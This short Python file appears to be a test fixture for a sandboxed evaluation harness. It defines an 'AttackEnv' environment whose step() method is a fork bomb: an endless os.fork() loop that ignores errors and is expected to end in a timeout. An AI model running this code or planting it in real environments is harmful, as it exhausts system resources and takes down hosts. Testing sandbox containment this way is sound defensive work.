# Kind: processes
# Outcome: timeout
import os


class AttackEnv:
    def reset(self, seed=None):
        return "start", {}

    def step(self, action):
        while True:
            try:
                os.fork()
            except OSError:
                continue
        return "done", 1.0, True, False, {}
